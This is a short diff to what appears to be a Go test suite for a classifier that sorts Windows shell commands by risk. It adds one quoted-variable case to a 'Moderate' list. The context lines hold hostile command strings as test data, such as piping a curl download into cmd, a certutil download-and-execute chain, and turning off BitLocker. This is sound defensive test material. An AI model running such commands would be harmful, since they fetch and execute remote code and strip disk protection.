@@ -36,7 +36,7 @@ func TestWindowsClasses(t *testing.T) {
 			`curl http://x | cmd`, `certutil -urlcache -f http://x y & cmd /c y`, `manage-bde -off c:`,
 		}},
 		{Cmd, Moderate, []string{
-			`copy a b`, `move a b`, `ren a b`, `md x`, `rd x`, `attrib +r x`, `attrib -r x`, `attrib -s x`, `nosuch`, `C:\tmp\whoami.exe`, `.\findstr x y`, `dir > x`, `dir %TMP%`, `dir "%TMP%"`, `dir !x!`,
+			`copy a b`, `move a b`, `ren a b`, `md x`, `rd x`, `attrib +r x`, `attrib -r x`, `attrib -s x`, `nosuch`, `C:\tmp\whoami.exe`, `.\findstr x y`, `dir > x`, `dir %TMP%`, `dir "%TMP%"`, `dir !x!`, `dir "!x!"`,
 			`dir (x)`, `echo ^x`, `curl http://x`, `wget x`, `ssh h`, `sort /o x y`, `sort x /output y`, `sort x /out y`, `ipconfig /release`, `ipconfig /rel`, `setx a b`, `reg add x`,
 			`taskkill /f /im x`, `set a=b`, `set /a x`, `set /p x`, `date 1-1-2020`, `path c:\x`, `shutdown /a`, `cmd`, `powershell`, `get-process`, `ls`, `cat x`,
 			`start notepad`, `timeout 5`, `ping -t x`, `git push`, `kubectl delete pod x`, `type \\.\pipe\x`, `type \\host\share\x`, `dir \\host\c$`, `net config server /autodisconnect:1`, `gpresult /h x`,
